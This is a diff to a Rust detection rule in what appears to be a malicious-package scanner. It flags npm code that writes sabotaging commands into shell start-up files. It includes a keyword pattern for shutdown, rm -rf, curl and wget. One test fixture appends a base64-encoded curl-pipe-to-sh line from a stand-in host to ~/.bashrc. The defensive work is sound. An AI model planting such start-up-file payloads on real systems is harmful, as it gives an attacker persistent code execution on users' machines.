@@ -29,6 +29,41 @@ crate::declare_rule! {
            "function scan(dir) { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { if (e.isDirectory()) scan(path.join(dir, e.name)); else found.push(e.name); } }\nconst up = path.resolve(root, '..');\n/* ................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................................ */\nfunction prepare(cacheDir) { fs.mkdirSync(cacheDir, { recursive: true }); fs.writeFileSync(path.resolve(cacheDir, 'package.json'), `{\\n  \"type\": \"module\"\\n}\\n`); }", "// never run rm -rf / on a machine"],
 }
 
+/// How far (in bytes) before and after a write to a shell start-up file its path and the
+/// command it plants must sit to be part of that write.
+const RC_BEFORE: usize = 2_000;
+const RC_AFTER: usize = 600;
+
+/// The offset of a write that puts a sabotaging command (`shutdown`, `rm -rf`, a `curl`/`wget`
+/// download) into a shell start-up file: the start-up file named as a path (`'.bashrc'`,
+/// `~/.zshrc`) and the command both around the write, in the source or in a string decoded
+/// there. Not a bundle that appends a completion line in one module and names `curl` in a MIME
+/// table or `options.profile` in others (@codspeed/core 5.7.1, @napi-rs/cli 3.10.12, @rspack/core
+/// 2.3.3, vitepress 1.6.4).
+fn rc_tamper(f: &crate::package::FileCtx, js: &crate::js::JsFacts) -> Option<u32> {
+    let rc_path = crate::regex!(r#"['"`/\\]\.(bashrc|zshrc|bash_profile|profile)\b"#);
+    let payload = crate::regex!(r"shutdown|rm -rf|\bcurl\b|\bwget\b");
+    js.calls
+        .iter()
+        .filter(|c| c.path.starts_with("fs.appendFile") || c.path.starts_with("fs.writeFile"))
+        .find(|c| {
+            let at = c.off as usize;
+            let lo = at.saturating_sub(RC_BEFORE);
+            let hi = (at + RC_AFTER).min(f.text.len());
+            let window = f.text.get(lo..hi).unwrap_or("");
+            let decoded = js
+                .derived
+                .iter()
+                .filter(|(_, o)| (lo..hi).contains(&(*o as usize)))
+                .map(|(s, _)| s.as_str());
+            let near = |re: &regex::Regex| {
+                re.is_match(window) || decoded.clone().any(|s| re.is_match(s))
+            };
+            near(rc_path) && near(payload)
+        })
+        .map(|c| c.off)
+}
+
 /// How far (in bytes) after a directory listing an overwrite still counts as part of the walk
 /// (node-ipc 10.1.1: about 520 bytes; vite 5.2.10's unrelated write: 227,000).
 const WALK_WINDOW: usize = 1_500;
@@ -111,21 +146,14 @@ fn check(pkg: &Package, out: &mut Emitter) {
             continue;
         }
         let text = all_text(f);
-        if let Some(c) = js
-            .calls
-            .iter()
-            .find(|c| c.path.starts_with("fs.appendFile") || c.path.starts_with("fs.writeFile"))
-            && rc.is_match(text)
-            && (text.contains("shutdown")
-                || text.contains("rm -rf")
-                || text.contains("curl")
-                || text.contains("wget"))
+        if rc.is_match(text)
+            && let Some(off) = rc_tamper(f, js)
         {
             out.hit_sev(
                 Severity::Critical,
                 pkg,
                 f,
-                c.off,
+                off,
                 "tampers with shell start-up files (.bashrc/.zshrc)",
             );
             continue;
@@ -210,5 +238,39 @@ fn check(pkg: &Package, out: &mut Emitter) {
                 "walks parent directories up to the root and overwrites the files it finds",
             );
         }
+    }
+}
+
+#[cfg(test)]
+mod rc_tests {
+    use crate::model::Severity;
+    use crate::rules::testing::run;
+
+    /// A CLI bundle that appends its completion line to ~/.zshrc on request, and far away in
+    /// other modules names `curl` (a MIME table) and `options.profile` (@codspeed/core 5.7.1,
+    /// @napi-rs/cli 3.10.12): no start-up file is sabotaged.
+    #[test]
+    fn completion_line_in_a_bundle_naming_curl_elsewhere_is_not_rc_tampering() {
+        let filler = "function f(a) { return a + 1; }\n".repeat(200);
+        let src = format!(
+            "const fs = require('fs'); const os = require('os'); const path = require('path');\n\
+             function install() {{ fs.appendFileSync(path.join(os.homedir(), '.zshrc'), '\\nsource <(mycli completion zsh)\\n'); }}\n\
+             {filler}const types = {{ 'application/vnd.curl': {{ compressible: false }} }};\n\
+             const profile = options.profile; if (stopping) shutdown(server);\n"
+        );
+        let hits = run(&super::RULE, "dist/cli.js", &src);
+        assert!(hits.is_empty(), "{hits:?}");
+    }
+
+    /// The same append carrying a download-and-run line, its path and payload built a few lines
+    /// above the write, one of them base64-encoded.
+    #[test]
+    fn a_download_line_appended_to_bashrc_is_critical() {
+        let src = "const fs = require('fs'); const os = require('os');\n\
+            const rc = os.homedir() + '/.bashrc';\n\
+            const line = Buffer.from('Y3VybCAtcyBodHRwczovL2guZXhhbXBsZS94IHwgc2g=', 'base64').toString();\n\
+            fs.appendFileSync(rc, '\\n' + line + '\\n');\n";
+        let hits = run(&super::RULE, "index.js", src);
+        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Critical), "{hits:?}");
     }
 }
